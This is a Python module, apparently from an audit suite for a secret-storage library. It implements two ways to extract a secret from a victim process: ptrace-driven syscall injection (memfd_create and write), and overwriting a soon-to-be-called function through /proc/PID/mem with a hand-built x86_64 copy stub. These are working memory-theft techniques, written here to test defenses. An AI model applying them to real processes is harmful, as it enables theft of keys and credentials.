"""Attacks that make the victim's own code give the secret away. What runs in a process can read what it can read."""

from __future__ import annotations

import contextlib
import errno
import os
from collections.abc import Iterator

from secretfs.audit import calls
from secretfs.audit.model import NotTriedError
from secretfs.audit.needle import LENGTH
from secretfs.audit.spaces import mappings
from secretfs.audit.subjects import Target
from secretfs.audit.symbols import address_in
from secretfs.audit.tracing import Traced
from secretfs.audit.victim import CALLED

__all__ = ["by_proc_mem", "by_ptrace"]

# System calls of x86_64, the only machine that tracing.Traced.call() knows.
_WRITE, _CLOSE, _MEMFD_CREATE = 1, 3, 319


def by_ptrace(target: Target) -> bool:
    """Attach, let the victim make a memfd and write the memory there, and read that."""
    with Traced(target.pid) as traced:
        name = mappings(target.pid)[0].start  # any text will do
        fd = traced.call(_MEMFD_CREATE, name, 0)
        try:
            for place in target.places():
                with contextlib.suppress(OSError):
                    traced.call(_WRITE, fd, place.start, place.size)
            return target.needle.in_path(f"/proc/{target.pid}/fd/{fd}")
        finally:
            traced.call(_CLOSE, fd)


def by_proc_mem(target: Target) -> bool:
    """Write code over a function that the victim is about to call, through /proc/PID/mem."""
    if calls.MACHINE != "x86_64":
        raise NotTriedError(f"this attack was written for x86_64, and this is {calls.MACHINE}")
    function = address_in(target.pid, CALLED)
    with _memory(target.pid) as memory:
        scratch = next(one for one in mappings(target.pid) if one.rights.startswith("rw") and "[heap]" in one.name)
        place = scratch.end - 4096
        code = _stub(place)
        kept = os.pread(memory, len(code), function)
        try:
            os.pwrite(memory, code, function)
            _let_it_call(target)
            copied = bytearray(LENGTH)
            os.preadv(memory, [copied], place)
            return target.needle.in_buffer(copied)
        finally:
            with contextlib.suppress(OSError):  # it has ended
                os.pwrite(memory, kept, function)


def _let_it_call(target: Target) -> None:
    try:
        target.ask({"use": 1})
    except NotTriedError as error:  # reading pages without access ends it
        raise OSError(errno.EFAULT, os.strerror(errno.EFAULT)) from error


def _stub(place: int) -> bytes:
    """A function that copies LENGTH bytes from its argument to `place`."""
    code = b"\x48\xb9" + place.to_bytes(8, "little")  # mov rcx, place
    for at in range(0, LENGTH, 8):
        code += bytes((0x48, 0x8B, 0x47, at, 0x48, 0x89, 0x41, at))  # mov rax,[rdi+at]; mov [rcx+at],rax
    return code + b"\xc3"  # ret


@contextlib.contextmanager
def _memory(pid: int) -> Iterator[int]:
    fd = os.open(f"/proc/{pid}/mem", os.O_RDWR | os.O_CLOEXEC)
    try:
        yield fd
    finally:
        os.close(fd)
